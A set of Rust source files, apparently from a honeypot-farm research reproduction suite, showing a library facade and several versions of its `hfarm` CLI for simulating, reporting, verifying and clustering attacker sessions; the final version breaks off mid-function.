pub use hf_geo as geo;
pub use hf_hash as hash;
pub use hf_honeypot as honeypot;
pub use hf_obs as obs;
pub use hf_proto as proto;
pub use hf_shell as shell;
pub use hf_sim as sim;
pub use hf_simclock as simclock;
pub use hf_testkit as testkit;
pub use hf_wire as wire;

/// The most common imports in one place.
pub mod prelude {
    pub use hf_agents::{Ecosystem, EcosystemConfig, Scale};
    pub use hf_cluster::{ClusterRun, KMeansConfig};
    pub use hf_core::{Aggregates, Claims, Report};
    pub use hf_farm::{Collector, Dataset, FarmPlan, Snapshot, SnapshotError, TagDb};
    pub use hf_honeypot::{HoneypotConfig, SessionDriver, SessionRecord};
    pub use hf_sim::{DayStats, FoldOutput, SimConfig, SimOutput, Simulation};
    pub use hf_simclock::StudyWindow;
    pub use hf_wire::{FarmConfig as WireFarmConfig, LiveFarm};
}

#[cfg(test)]
mod tests {
    #[test]
    fn facade_reexports_resolve() {
        // Compile-time smoke test that the re-export surface is intact.
        let _ = crate::prelude::SimConfig::test(2);
        let _ = crate::farm::FarmPlan::paper();
        let _ = crate::hash::Sha256::digest(b"facade");
    }
}
