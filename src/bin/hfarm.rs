//! `hfarm` — command-line front door to the honeyfarm reproduction suite.
//!
//! ```text
//! hfarm simulate [--scale F] [--days N] [--seed S] [--out DIR] [--snapshot FILE]
//!     Simulate the study window, write every table/figure + claims, and
//!     persist the collected run as an hfstore snapshot.
//! hfarm report   [--snapshot FILE] [--out DIR]
//!     Load a snapshot and run the full report pipeline without
//!     re-simulating; output is byte-identical to the producing simulate.
//! hfarm claims   [--scale F] [--days N] [--seed S]
//!     Print the headline findings only.
//! hfarm birth    [--scale F] [--days N] [--seed S]
//!     Print the farm-discovery timeline (Section 9).
//! hfarm serve    [--nodes N]
//!     Run live TCP honeypots on loopback and stream Cowrie JSON events
//!     until Ctrl-C.
//! ```

use std::path::{Path, PathBuf};

use honeyfarm::core::birth::birth_report;
use honeyfarm::prelude::*;

struct Common {
    scale: f64,
    days: u32,
    seed: u64,
    out: PathBuf,
    snapshot: PathBuf,
    nodes: u16,
    fast: bool,
    threads: usize,
}

fn parse(args: &[String]) -> Common {
    let mut c = Common {
        scale: 0.005,
        days: 486,
        seed: 0x0e0e_fa20,
        out: PathBuf::from("out/report"),
        snapshot: PathBuf::from("out/farm.hfstore"),
        nodes: 3,
        fast: false,
        threads: 1,
    };
    let mut it = args.iter();
    while let Some(flag) = it.next() {
        let mut val = || {
            it.next()
                .unwrap_or_else(|| usage(&format!("{flag} needs a value")))
        };
        match flag.as_str() {
            "--scale" => c.scale = val().parse().unwrap_or_else(|_| usage("--scale f64")),
            "--days" => c.days = val().parse().unwrap_or_else(|_| usage("--days u32")),
            "--seed" => c.seed = val().parse().unwrap_or_else(|_| usage("--seed u64")),
            "--out" => c.out = PathBuf::from(val()),
            "--snapshot" => c.snapshot = PathBuf::from(val()),
            "--nodes" => c.nodes = val().parse().unwrap_or_else(|_| usage("--nodes u16")),
            "--fast" => c.fast = true,
            "--threads" => c.threads = val().parse().unwrap_or_else(|_| usage("--threads usize")),
            other => usage(&format!("unknown flag {other}")),
        }
    }
    c
}

fn usage(msg: &str) -> ! {
    eprintln!("{msg}");
    eprintln!(
        "usage: hfarm <simulate|report|claims|birth|serve> [--scale F] [--days N] [--seed S] \
         [--out DIR] [--snapshot FILE] [--nodes N] [--fast] [--threads N]"
    );
    std::process::exit(2)
}

fn sim_config(c: &Common) -> SimConfig {
    let window = if c.days >= 486 {
        StudyWindow::paper()
    } else {
        StudyWindow::first_days(c.days)
    };
    SimConfig {
        seed: c.seed,
        scale: Scale::of(c.scale),
        window,
        use_script_cache: c.fast,
        threads: c.threads,
    }
}

fn simulate(c: &Common) -> (SimOutput, Aggregates) {
    let config = sim_config(c);
    eprintln!(
        "simulating {} days at scale {} (seed {}, {} thread{}) …",
        config.window.num_days(),
        c.scale,
        c.seed,
        c.threads,
        if c.threads == 1 { "" } else { "s" }
    );
    let out = Simulation::run(config);
    eprintln!(
        "{} sessions / {} clients / {} hashes",
        out.dataset.len(),
        out.n_clients,
        out.tags.len()
    );
    let agg = Aggregates::compute(&out.dataset, &out.tags);
    (out, agg)
}

/// Write the report dir + claims for a collected run — shared by
/// `simulate` (fresh run) and `report` (snapshot reload), so both paths
/// produce byte-identical output from identical data.
fn write_report(dataset: &Dataset, tags: &TagDb, agg: &Aggregates, out_dir: &Path) {
    let report = Report::build_with_tags(dataset, agg, tags);
    report.write_dir(out_dir).expect("write report");
    let claims = Claims::compute(agg);
    std::fs::write(out_dir.join("claims.json"), claims.to_json()).expect("claims");
    println!("{}", report.summary());
    println!("report written to {}", out_dir.display());
}

fn main() {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let Some((cmd, rest)) = argv.split_first() else {
        usage("missing subcommand")
    };
    let c = parse(rest);
    match cmd.as_str() {
        "simulate" => {
            let config = sim_config(&c);
            let (out, agg) = simulate(&c);
            if let Some(dir) = c.snapshot.parent() {
                std::fs::create_dir_all(dir).expect("snapshot dir");
            }
            if let Err(e) = out.to_snapshot(&config).write_file(&c.snapshot) {
                eprintln!("error writing snapshot: {e}");
                std::process::exit(1);
            }
            eprintln!("snapshot written to {}", c.snapshot.display());
            write_report(&out.dataset, &out.tags, &agg, &c.out);
        }
        "report" => {
            eprintln!("loading snapshot {} …", c.snapshot.display());
            let snap = Snapshot::read_file(&c.snapshot).unwrap_or_else(|e| {
                eprintln!("error loading snapshot: {e}");
                std::process::exit(1);
            });
            let meta = snap.meta;
            let out = SimOutput::from_snapshot(snap);
            eprintln!(
                "{} sessions / {} clients / {} hashes (seed {}, scale {}, {} days)",
                out.dataset.len(),
                out.n_clients,
                out.tags.len(),
                meta.seed,
                meta.scale_volume,
                meta.days
            );
            let agg = Aggregates::compute(&out.dataset, &out.tags);
            write_report(&out.dataset, &out.tags, &agg, &c.out);
        }
        "claims" => {
            let (_, agg) = simulate(&c);
            println!("{}", Claims::compute(&agg));
        }
        "birth" => {
            let (_, agg) = simulate(&c);
            println!("{}", birth_report(&agg));
        }
        "serve" => serve(c.nodes),
        other => usage(&format!("unknown subcommand {other}")),
    }
}

fn serve(nodes: u16) {
    // The live TCP front-end lives in hf-wire, which needs Tokio; that crate
    // is parked while builds run offline (see crates/wire/Cargo.toml).
    let _ = nodes;
    eprintln!(
        "hfarm serve is unavailable in this build: the hf-wire crate (live \
         Tokio TCP front-end) is excluded from offline builds. Restore it in \
         the root Cargo.toml on a machine with crates.io access."
    );
    std::process::exit(1)
}
