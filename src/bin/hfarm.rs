//! `hfarm` — command-line front door to the honeyfarm reproduction suite.
//!
//! ```text
//! hfarm simulate [--scale F] [--days N] [--seed S] [--out DIR] [--snapshot FILE] [--fold]
//!     Simulate the study window, write every table/figure + claims, and
//!     persist the collected run as an hfstore snapshot. With `--fold`,
//!     run out-of-core: each completed day is folded into the aggregates
//!     and its rows retired, so peak memory is bounded by one day's
//!     traffic instead of the whole window (no snapshot is written; the
//!     report is identical to the in-memory path).
//! hfarm report   [--snapshot FILE] [--out DIR] [--streaming]
//!     Load a snapshot and run the full report pipeline without
//!     re-simulating; output is byte-identical to the producing simulate.
//!     With `--streaming`, rows are folded chunk-by-chunk as they are read
//!     instead of materializing the whole store.
//! hfarm claims   [--scale F] [--days N] [--seed S]
//!     Print the headline findings only.
//! hfarm birth    [--scale F] [--days N] [--seed S]
//!     Print the farm-discovery timeline (Section 9).
//! hfarm serve    [--nodes N]
//!     Run live TCP honeypots on loopback and stream Cowrie JSON events
//!     until Ctrl-C.
//! hfarm verify   [--claims] [--md] [--scenarios DIR] [--scale F] [--days N]
//!     Run the correctness oracles end-to-end: thread-count differential
//!     (1 vs 2 vs 8), snapshot round-trip equivalence, optional scenario
//!     golden checks, and (with --claims) the full declarative
//!     paper-claims table. `--md` prints the claims table as markdown.
//! hfarm metrics DIR
//!     Parse and summarize a metrics manifest directory previously
//!     emitted with --metrics (schema check + spans.tsv cross-check).
//! ```
//!
//! `simulate`, `report`, and `verify` additionally accept
//! `--metrics DIR`: enable the hf-obs observability layer for the run and
//! write `metrics.json` + `spans.tsv` into DIR at exit. Recording never
//! changes any simulation, snapshot, or report byte (enforced by
//! `tests/obs_invariance.rs`).

use std::path::{Path, PathBuf};

use honeyfarm::core::birth::birth_report;
use honeyfarm::prelude::*;

struct Common {
    scale: f64,
    days: u32,
    seed: u64,
    out: PathBuf,
    snapshot: PathBuf,
    nodes: u16,
    fast: bool,
    threads: usize,
    claims: bool,
    md: bool,
    fold: bool,
    streaming: bool,
    scenarios: Option<PathBuf>,
    metrics: Option<PathBuf>,
}

fn parse(args: &[String]) -> Common {
    let mut c = Common {
        scale: 0.005,
        days: 486,
        seed: 0x0e0e_fa20,
        out: PathBuf::from("out/report"),
        snapshot: PathBuf::from("out/farm.hfstore"),
        nodes: 3,
        fast: false,
        threads: 1,
        claims: false,
        md: false,
        fold: false,
        streaming: false,
        scenarios: None,
        metrics: None,
    };
    let mut it = args.iter();
    while let Some(flag) = it.next() {
        let mut val = || {
            it.next()
                .unwrap_or_else(|| usage(&format!("{flag} needs a value")))
        };
        match flag.as_str() {
            "--scale" => c.scale = val().parse().unwrap_or_else(|_| usage("--scale f64")),
            "--days" => c.days = val().parse().unwrap_or_else(|_| usage("--days u32")),
            "--seed" => c.seed = val().parse().unwrap_or_else(|_| usage("--seed u64")),
            "--out" => c.out = PathBuf::from(val()),
            "--snapshot" => c.snapshot = PathBuf::from(val()),
            "--nodes" => c.nodes = val().parse().unwrap_or_else(|_| usage("--nodes u16")),
            "--fast" => c.fast = true,
            "--threads" => c.threads = val().parse().unwrap_or_else(|_| usage("--threads usize")),
            "--claims" => c.claims = true,
            "--md" => c.md = true,
            "--fold" => c.fold = true,
            "--streaming" => c.streaming = true,
            "--scenarios" => c.scenarios = Some(PathBuf::from(val())),
            "--metrics" => c.metrics = Some(PathBuf::from(val())),
            other => usage(&format!("unknown flag {other}")),
        }
    }
    c
}

fn usage(msg: &str) -> ! {
    eprintln!("{msg}");
    eprintln!(
        "usage: hfarm <simulate|report|claims|birth|serve|verify|metrics> [--scale F] \
         [--days N] [--seed S] [--out DIR] [--snapshot FILE] [--nodes N] [--fast] \
         [--threads N] [--claims] [--md] [--fold] [--streaming] [--scenarios DIR] \
         [--metrics DIR]"
    );
    std::process::exit(2)
}

fn sim_config(c: &Common) -> SimConfig {
    let window = if c.days >= 486 {
        StudyWindow::paper()
    } else {
        StudyWindow::first_days(c.days)
    };
    SimConfig {
        seed: c.seed,
        scale: Scale::of(c.scale),
        window,
        use_script_cache: c.fast,
        threads: c.threads,
    }
}

fn simulate(c: &Common) -> (SimOutput, Aggregates) {
    let config = sim_config(c);
    eprintln!(
        "simulating {} days at scale {} (seed {}, {} thread{}) …",
        config.window.num_days(),
        c.scale,
        c.seed,
        c.threads,
        if c.threads == 1 { "" } else { "s" }
    );
    let out = Simulation::run(config);
    eprintln!(
        "{} sessions / {} clients / {} hashes",
        out.dataset.len(),
        out.n_clients,
        out.tags.len()
    );
    let agg = Aggregates::compute_threaded(&out.dataset, c.threads);
    (out, agg)
}

/// Write the report dir + claims for a collected run — shared by
/// `simulate` (fresh run) and `report` (snapshot reload), so both paths
/// produce byte-identical output from identical data. Builder groups run
/// across `threads` workers (output is thread-count invariant).
fn write_report(dataset: &Dataset, tags: &TagDb, agg: &Aggregates, out_dir: &Path, threads: usize) {
    let report = Report::build_with_tags_threaded(dataset, agg, tags, threads);
    report.write_dir(out_dir).expect("write report");
    let claims = Claims::compute(agg);
    std::fs::write(out_dir.join("claims.json"), claims.to_json()).expect("claims");
    println!("{}", report.summary());
    println!("report written to {}", out_dir.display());
}

/// Flush, package, and write the run's metrics manifest, then parse it
/// back (a malformed manifest is a bug worth failing loudly on).
fn emit_metrics(c: &Common, tool: &str) {
    let Some(dir) = &c.metrics else { return };
    // Final RSS high-water-mark sample so every manifest carries the
    // process-wide peak, not just the fold loop's per-day samples.
    honeyfarm::obs::sample_peak_rss();
    let manifest = honeyfarm::obs::manifest(tool);
    if let Err(e) = manifest.write_dir(dir) {
        eprintln!("error writing metrics manifest: {e}");
        std::process::exit(1);
    }
    match honeyfarm::obs::RunManifest::load_dir(dir) {
        Ok(m) => eprintln!(
            "metrics manifest written to {} ({} counters, {} histograms, {} spans)",
            dir.display(),
            m.counters.len(),
            m.histograms.len(),
            m.spans.len()
        ),
        Err(e) => {
            eprintln!("emitted metrics manifest failed to parse back: {e}");
            std::process::exit(1);
        }
    }
}

/// `hfarm metrics DIR` — parse a manifest directory and summarize it.
fn metrics_summary(dir: &Path) -> ! {
    match honeyfarm::obs::RunManifest::load_dir(dir) {
        Err(e) => {
            eprintln!("{e}");
            std::process::exit(1)
        }
        Ok(m) => {
            println!(
                "manifest ok: schema {} v{}, tool {:?}",
                honeyfarm::obs::SCHEMA_NAME,
                m.schema_version,
                m.tool
            );
            for (name, v) in &m.counters {
                println!("counter    {name} = {v}");
            }
            for (name, v) in &m.gauges {
                println!("gauge      {name} = {v}");
            }
            for (name, h) in &m.histograms {
                println!(
                    "histogram  {name}: n={} sum={} min={} max={}",
                    h.count, h.sum, h.min, h.max
                );
            }
            for (name, s) in &m.spans {
                println!(
                    "span       {name}: n={} wall={}ms cpu={}ms max={}ms",
                    s.count,
                    s.wall_ns / 1_000_000,
                    s.cpu_ns / 1_000_000,
                    s.max_wall_ns / 1_000_000
                );
            }
            std::process::exit(0)
        }
    }
}

fn main() {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let Some((cmd, rest)) = argv.split_first() else {
        usage("missing subcommand")
    };
    if cmd == "metrics" {
        let [dir] = rest else {
            usage("metrics takes exactly one argument: the manifest directory")
        };
        metrics_summary(Path::new(dir));
    }
    let c = parse(rest);
    if c.metrics.is_some() {
        honeyfarm::obs::enable();
    }
    match cmd.as_str() {
        "simulate" if c.fold => {
            let config = sim_config(&c);
            eprintln!(
                "simulating {} days at scale {} (seed {}, {} thread{}, out-of-core fold) …",
                config.window.num_days(),
                c.scale,
                c.seed,
                c.threads,
                if c.threads == 1 { "" } else { "s" }
            );
            let fold = Simulation::run_fold(config);
            eprintln!(
                "{} sessions folded / {} clients / {} hashes",
                fold.aggregates.total_sessions,
                fold.n_clients,
                fold.tags.len()
            );
            eprintln!("fold mode retires rows as it goes; no snapshot written");
            if let Some(kb) = honeyfarm::obs::peak_rss_kb() {
                eprintln!("peak RSS: {} MB", kb / 1024);
            }
            write_report(
                &fold.dataset,
                &fold.tags,
                &fold.aggregates,
                &c.out,
                c.threads,
            );
            emit_metrics(&c, "hfarm simulate");
        }
        "simulate" => {
            let config = sim_config(&c);
            let (out, agg) = simulate(&c);
            if let Some(dir) = c.snapshot.parent() {
                std::fs::create_dir_all(dir).expect("snapshot dir");
            }
            if let Err(e) = out.to_snapshot(&config).write_file(&c.snapshot) {
                eprintln!("error writing snapshot: {e}");
                std::process::exit(1);
            }
            eprintln!("snapshot written to {}", c.snapshot.display());
            write_report(&out.dataset, &out.tags, &agg, &c.out, c.threads);
            emit_metrics(&c, "hfarm simulate");
        }
        "report" if c.streaming => {
            eprintln!("streaming snapshot {} …", c.snapshot.display());
            let file = std::fs::File::open(&c.snapshot).unwrap_or_else(|e| {
                eprintln!("error opening snapshot: {e}");
                std::process::exit(1);
            });
            let fold = FoldOutput::from_snapshot_stream(std::io::BufReader::new(file))
                .unwrap_or_else(|e| {
                    eprintln!("error streaming snapshot: {e}");
                    std::process::exit(1);
                });
            eprintln!(
                "{} sessions folded / {} clients / {} hashes",
                fold.aggregates.total_sessions,
                fold.n_clients,
                fold.tags.len()
            );
            if let Some(kb) = honeyfarm::obs::peak_rss_kb() {
                eprintln!("peak RSS: {} MB", kb / 1024);
            }
            write_report(
                &fold.dataset,
                &fold.tags,
                &fold.aggregates,
                &c.out,
                c.threads,
            );
            emit_metrics(&c, "hfarm report");
        }
        "report" => {
            eprintln!("loading snapshot {} …", c.snapshot.display());
            let snap = Snapshot::read_file(&c.snapshot).unwrap_or_else(|e| {
                eprintln!("error loading snapshot: {e}");
                std::process::exit(1);
            });
            let meta = snap.meta;
            let out = SimOutput::from_snapshot(snap);
            eprintln!(
                "{} sessions / {} clients / {} hashes (seed {}, scale {}, {} days)",
                out.dataset.len(),
                out.n_clients,
                out.tags.len(),
                meta.seed,
                meta.scale_volume,
                meta.days
            );
            let agg = Aggregates::compute_threaded(&out.dataset, c.threads);
            write_report(&out.dataset, &out.tags, &agg, &c.out, c.threads);
            emit_metrics(&c, "hfarm report");
        }
        "claims" => {
            let (_, agg) = simulate(&c);
            println!("{}", Claims::compute(&agg));
        }
        "birth" => {
            let (_, agg) = simulate(&c);
            println!("{}", birth_report(&agg));
        }
        "serve" => serve(c.nodes),
        "verify" => verify(&c),
        other => usage(&format!("unknown subcommand {other}")),
    }
}

/// Run the correctness oracles end-to-end. Quick mode (default) proves the
/// engine's core invariants on a small window; `--claims` evaluates the
/// full declarative paper-claims table on the canonical fixture.
fn verify(c: &Common) -> ! {
    use honeyfarm::testkit::{claims as claims_oracle, diff_sim_outputs, Scenario};

    let mut failures = 0usize;
    let mut check = |name: &str, report: Option<String>| match report {
        None => println!("ok   {name}"),
        Some(detail) => {
            failures += 1;
            println!("FAIL {name}\n{detail}");
        }
    };

    // 1. Thread-count differential: threads ∈ {1, 2, 8} must agree
    //    bit-for-bit on a small window.
    let days = c.days.min(30);
    let base = SimConfig {
        seed: c.seed,
        scale: Scale::of(c.scale),
        window: StudyWindow::first_days(days),
        use_script_cache: c.fast,
        threads: 1,
    };
    eprintln!(
        "verify: differential run over {days} days at scale {} …",
        c.scale
    );
    let serial = Simulation::run(base.clone());
    for threads in [2usize, 8] {
        let parallel = Simulation::run(SimConfig {
            threads,
            ..base.clone()
        });
        let report = diff_sim_outputs(
            "threads=1",
            &serial,
            &format!("threads={threads}"),
            &parallel,
        );
        check(
            &format!("thread differential (1 vs {threads})"),
            (!report.is_identical()).then(|| report.render()),
        );
    }

    // 2. Snapshot round-trip: write → load must reproduce the output, and
    //    writing twice must be byte-identical.
    let mut bytes = Vec::new();
    match serial.to_snapshot(&base).write_to(&mut bytes) {
        Err(e) => check("snapshot write", Some(format!("  {e}"))),
        Ok(()) => {
            let mut again = Vec::new();
            serial
                .to_snapshot(&base)
                .write_to(&mut again)
                .expect("second snapshot write");
            check(
                "snapshot double-write determinism",
                (bytes != again).then(|| "  two writes of the same run differ".to_string()),
            );
            match Snapshot::read_from(&mut &bytes[..]) {
                Err(e) => check("snapshot load", Some(format!("  {e}"))),
                Ok(snap) => {
                    let reloaded = SimOutput::from_snapshot(snap);
                    let report =
                        diff_sim_outputs("simulated", &serial, "snapshot-reloaded", &reloaded);
                    check(
                        "snapshot round-trip equivalence",
                        (!report.is_identical()).then(|| report.render()),
                    );
                }
            }
        }
    }

    // 3. Scenario goldens, if a directory was given.
    if let Some(dir) = &c.scenarios {
        let mut paths: Vec<PathBuf> = std::fs::read_dir(dir)
            .unwrap_or_else(|e| usage(&format!("--scenarios {}: {e}", dir.display())))
            .filter_map(|e| e.ok().map(|e| e.path()))
            .filter(|p| p.extension().is_some_and(|x| x == "hfs"))
            .collect();
        paths.sort();
        for path in paths {
            let name = path
                .file_stem()
                .unwrap_or_default()
                .to_string_lossy()
                .to_string();
            match Scenario::load(&path) {
                Err(e) => check(&format!("scenario {name}"), Some(format!("  {e}"))),
                Ok(sc) => {
                    let golden = path.with_extension("golden");
                    let outcome = honeyfarm::testkit::check_golden(&golden, &sc.event_log());
                    check(
                        &format!("scenario {name}"),
                        outcome.err().map(|e| format!("  {e}")),
                    );
                }
            }
        }
    }

    // 4. The full paper-claims table, on demand (several minutes: runs the
    //    canonical fixture — full 486-day window at scale 0.002).
    if c.claims {
        eprintln!("verify: paper-claims fixture (486 days at scale 0.002) …");
        let out = Simulation::run(SimConfig {
            seed: 0x0e0e_fa20,
            scale: Scale::of(0.002),
            window: StudyWindow::paper(),
            use_script_cache: false,
            threads: c.threads,
        });
        let ctx = claims_oracle::ClaimCtx::new(&out);
        let results = claims_oracle::evaluate(&ctx);
        if c.md {
            println!("{}", claims_oracle::render_markdown(&results));
        } else {
            print!("{}", claims_oracle::render_text(&results));
        }
        let failed = results.iter().filter(|r| !r.pass).count();
        check(
            "paper claims",
            (failed > 0).then(|| format!("  {failed} claim(s) out of tolerance")),
        );
    }

    emit_metrics(c, "hfarm verify");
    if failures == 0 {
        println!("verify: all checks passed");
        std::process::exit(0)
    }
    println!("verify: {failures} check(s) failed");
    std::process::exit(1)
}

fn serve(nodes: u16) {
    // The live TCP front-end lives in hf-wire, which needs Tokio; that crate
    // is parked while builds run offline (see crates/wire/Cargo.toml).
    let _ = nodes;
    eprintln!(
        "hfarm serve is unavailable in this build: the hf-wire crate (live \
         Tokio TCP front-end) is excluded from offline builds. Restore it in \
         the root Cargo.toml on a machine with crates.io access."
    );
    std::process::exit(1)
}
