//! `hfarm` — command-line front door to the honeyfarm reproduction suite.
//!
//! ```text
//! hfarm simulate [--scale F] [--days N] [--seed S] [--out DIR] [--snapshot FILE] [--fold]
//!     Simulate the study window, write every table/figure + claims, and
//!     persist the collected run as an hfstore snapshot. With `--fold`,
//!     run out-of-core: each completed day is folded into the aggregates
//!     and its rows retired, so peak memory is bounded by one day's
//!     traffic instead of the whole window (no snapshot is written; the
//!     report is identical to the in-memory path).
//! hfarm report   [--snapshot FILE] [--out DIR] [--streaming]
//!     Load a snapshot and run the full report pipeline without
//!     re-simulating; output is byte-identical to the producing simulate.
//!     With `--streaming`, rows are folded chunk-by-chunk as they are read
//!     instead of materializing the whole store.
//! hfarm cluster  [--scale F] [--days N] [--seed S] [--threads N] [--out DIR]
//!                [--snapshot FILE] [--streaming] [--k N]
//!     Cluster attackers: extract per-client behavioural features
//!     (credentials, command n-grams, timing, ident, geography, taxonomy
//!     mix), normalize with the fixed DESIGN.md §15 scaling, and run the
//!     deterministic seeded k-means with its silhouette sweep. Reads a
//!     live sim by default, a snapshot with `--snapshot`, or folds the
//!     snapshot chunk-at-a-time with `--streaming` (bounded RSS). Writes
//!     `cluster_assignments.tsv` + `cluster_summary.tsv` into `--out` and
//!     prints the per-cluster summary; output is bit-identical across
//!     thread counts and ingest paths. `--k` pins k and skips the sweep.
//! hfarm claims   [--scale F] [--days N] [--seed S]
//!     Print the headline findings only.
//! hfarm birth    [--scale F] [--days N] [--seed S]
//!     Print the farm-discovery timeline (Section 9).
//! hfarm serve    [--nodes N] [--ssh-port P] [--telnet-port P] [--per-ip-cap N]
//!                [--wall-timeout S] [--virtual-time] [--snapshot FILE]
//!     Run the live TCP honeyfarm: every node's SSH+Telnet listener bound
//!     on its own 127.18/127.19 mirror address, all multiplexed through
//!     one epoll reactor into the collector. Prints one `node <id> ssh
//!     <addr> telnet <addr>` line per node and then `ready`; stops on
//!     Ctrl-C or stdin EOF, prints a final `accounting …` line, and (with
//!     --snapshot) writes the collected run as an hfstore snapshot.
//! hfarm loadgen  [--sessions N] [--concurrent N] [--hold-all] [--spawn-serve]
//!                [--scenarios DIR] [--nodes N]
//!     Replay the scenario corpus over real loopback TCP against a live
//!     farm (in-process by default; --spawn-serve drives a child `hfarm
//!     serve` so client and server each get their own fd budget) and
//!     enforce the ingest-accounting invariant: every driven connection is
//!     either ingested or rejected, none lost.
//! hfarm verify   [--claims] [--md] [--scenarios DIR] [--scale F] [--days N]
//!     Run the correctness oracles end-to-end: thread-count differential
//!     (1 vs 2 vs 8), snapshot round-trip equivalence, optional scenario
//!     golden checks, and (with --claims) the full declarative
//!     paper-claims table. `--md` prints the claims table as markdown.
//! hfarm metrics DIR
//!     Parse and summarize a metrics manifest directory previously
//!     emitted with --metrics (schema check + spans.tsv cross-check).
//! ```
//!
//! `simulate`, `report`, and `verify` additionally accept
//! `--metrics DIR`: enable the hf-obs observability layer for the run and
//! write `metrics.json` + `spans.tsv` into DIR at exit. Recording never
//! changes any simulation, snapshot, or report byte (enforced by
//! `tests/obs_invariance.rs`).

use std::path::{Path, PathBuf};

use honeyfarm::core::birth::birth_report;
use honeyfarm::prelude::*;

struct Common {
    scale: f64,
    days: u32,
    seed: u64,
    out: PathBuf,
    snapshot: PathBuf,
    nodes: u16,
    fast: bool,
    threads: usize,
    claims: bool,
    md: bool,
    fold: bool,
    streaming: bool,
    scenarios: Option<PathBuf>,
    metrics: Option<PathBuf>,
    snapshot_explicit: bool,
    ssh_port: u16,
    telnet_port: u16,
    per_ip_cap: u32,
    wall_timeout: u32,
    virtual_time: bool,
    sessions: usize,
    concurrent: usize,
    hold_all: bool,
    spawn_serve: bool,
    k: Option<usize>,
}

fn parse(args: &[String]) -> Common {
    let mut c = Common {
        scale: 0.005,
        days: 486,
        seed: 0x0e0e_fa20,
        out: PathBuf::from("out/report"),
        snapshot: PathBuf::from("out/farm.hfstore"),
        nodes: 3,
        fast: false,
        threads: 1,
        claims: false,
        md: false,
        fold: false,
        streaming: false,
        scenarios: None,
        metrics: None,
        snapshot_explicit: false,
        ssh_port: 0,
        telnet_port: 0,
        per_ip_cap: 1024,
        wall_timeout: 30,
        virtual_time: false,
        sessions: 1000,
        concurrent: 100,
        hold_all: false,
        spawn_serve: false,
        k: None,
    };
    let mut it = args.iter();
    while let Some(flag) = it.next() {
        let mut val = || {
            it.next()
                .unwrap_or_else(|| usage(&format!("{flag} needs a value")))
        };
        match flag.as_str() {
            "--scale" => c.scale = val().parse().unwrap_or_else(|_| usage("--scale f64")),
            "--days" => c.days = val().parse().unwrap_or_else(|_| usage("--days u32")),
            "--seed" => c.seed = val().parse().unwrap_or_else(|_| usage("--seed u64")),
            "--out" => c.out = PathBuf::from(val()),
            "--snapshot" => {
                c.snapshot = PathBuf::from(val());
                c.snapshot_explicit = true;
            }
            "--nodes" => c.nodes = val().parse().unwrap_or_else(|_| usage("--nodes u16")),
            "--fast" => c.fast = true,
            "--threads" => c.threads = val().parse().unwrap_or_else(|_| usage("--threads usize")),
            "--claims" => c.claims = true,
            "--md" => c.md = true,
            "--fold" => c.fold = true,
            "--streaming" => c.streaming = true,
            "--scenarios" => c.scenarios = Some(PathBuf::from(val())),
            "--metrics" => c.metrics = Some(PathBuf::from(val())),
            "--ssh-port" => c.ssh_port = val().parse().unwrap_or_else(|_| usage("--ssh-port u16")),
            "--telnet-port" => {
                c.telnet_port = val().parse().unwrap_or_else(|_| usage("--telnet-port u16"))
            }
            "--per-ip-cap" => {
                c.per_ip_cap = val().parse().unwrap_or_else(|_| usage("--per-ip-cap u32"))
            }
            "--wall-timeout" => {
                c.wall_timeout = val()
                    .parse()
                    .unwrap_or_else(|_| usage("--wall-timeout u32"))
            }
            "--virtual-time" => c.virtual_time = true,
            "--sessions" => {
                c.sessions = val().parse().unwrap_or_else(|_| usage("--sessions usize"))
            }
            "--concurrent" => {
                c.concurrent = val()
                    .parse()
                    .unwrap_or_else(|_| usage("--concurrent usize"))
            }
            "--hold-all" => c.hold_all = true,
            "--spawn-serve" => c.spawn_serve = true,
            "--k" => c.k = Some(val().parse().unwrap_or_else(|_| usage("--k usize"))),
            other => usage(&format!("unknown flag {other}")),
        }
    }
    c
}

fn usage(msg: &str) -> ! {
    eprintln!("{msg}");
    eprintln!(
        "usage: hfarm <simulate|report|cluster|claims|birth|serve|loadgen|verify|metrics> \
         [--scale F] [--days N] [--seed S] [--out DIR] [--snapshot FILE] [--nodes N] [--fast] \
         [--threads N] [--claims] [--md] [--fold] [--streaming] [--scenarios DIR] \
         [--metrics DIR] [--ssh-port P] [--telnet-port P] [--per-ip-cap N] \
         [--wall-timeout S] [--virtual-time] [--sessions N] [--concurrent N] \
         [--hold-all] [--spawn-serve] [--k N]"
    );
    std::process::exit(2)
}

fn sim_config(c: &Common) -> SimConfig {
    let window = if c.days >= 486 {
        StudyWindow::paper()
    } else {
        StudyWindow::first_days(c.days)
    };
    SimConfig {
        seed: c.seed,
        scale: Scale::of(c.scale),
        window,
        use_script_cache: c.fast,
        threads: c.threads,
    }
}

fn simulate(c: &Common) -> (SimOutput, Aggregates) {
    let config = sim_config(c);
    eprintln!(
        "simulating {} days at scale {} (seed {}, {} thread{}) …",
        config.window.num_days(),
        c.scale,
        c.seed,
        c.threads,
        if c.threads == 1 { "" } else { "s" }
    );
    let out = Simulation::run(config);
    eprintln!(
        "{} sessions / {} clients / {} hashes",
        out.dataset.len(),
        out.n_clients,
        out.tags.len()
    );
    let agg = Aggregates::compute_threaded(&out.dataset, c.threads);
    (out, agg)
}

/// Write the report dir + claims for a collected run — shared by
/// `simulate` (fresh run) and `report` (snapshot reload), so both paths
/// produce byte-identical output from identical data. Builder groups run
/// across `threads` workers (output is thread-count invariant).
fn write_report(dataset: &Dataset, tags: &TagDb, agg: &Aggregates, out_dir: &Path, threads: usize) {
    let report = Report::build_with_tags_threaded(dataset, agg, tags, threads);
    report.write_dir(out_dir).expect("write report");
    let claims = Claims::compute(agg);
    std::fs::write(out_dir.join("claims.json"), claims.to_json()).expect("claims");
    println!("{}", report.summary());
    println!("report written to {}", out_dir.display());
}

/// `hfarm cluster` — per-client feature extraction + seeded k-means, from
/// a live sim, a materialized snapshot, or a bounded-RSS streaming read.
/// All three paths produce bit-identical TSVs from the same data (held by
/// `tests/cluster_invariance.rs` and the CI streaming smoke's `diff`).
fn cluster_cmd(c: &Common) {
    use honeyfarm::cluster;

    let cfg = cluster::KMeansConfig {
        force_k: c.k,
        ..cluster::KMeansConfig::default()
    };
    let run = if c.snapshot_explicit && c.streaming {
        eprintln!("streaming snapshot {} …", c.snapshot.display());
        let file = std::fs::File::open(&c.snapshot).unwrap_or_else(|e| {
            eprintln!("error opening snapshot: {e}");
            std::process::exit(1);
        });
        let (_plan, feats) = cluster::features_from_snapshot_stream(std::io::BufReader::new(file))
            .unwrap_or_else(|e| {
